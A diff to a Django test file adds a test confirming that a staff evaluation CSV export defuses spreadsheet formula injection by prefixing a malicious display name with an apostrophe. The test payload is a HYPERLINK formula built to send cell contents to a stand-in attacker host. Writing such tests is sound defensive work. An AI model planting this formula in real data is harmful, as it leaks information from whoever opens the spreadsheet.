@@ -363,3 +363,16 @@ def test_officers_act_in_the_admin_on_their_departments_rectifications_only(clie
     client.post(url, {**selected, "action": "give_outcome", "outcome": "explained", "text": "无法律依据"})
     bad_review.refresh_from_db()
     assert (bad_review.status, bad_review.outcome, bad_review.outcome_text) == ("answered", "explained", "无法律依据")
+
+
+def test_the_csv_export_neutralises_names_a_spreadsheet_would_run(client_as, hall_staff):
+    import csv
+    import io
+
+    attack = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    Evaluation.objects.create(booking=BookingFactory(status="completed"), stage="completion", grade=5,
+                              staff=UserFactory(display_name=attack))
+    response = client_as(hall_staff).get("/evaluations/figures.csv?by=staff")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[1][1] == "'" + attack
+    assert rows[1][2:4] == ["1", "100.0"]  # numbers stay numbers
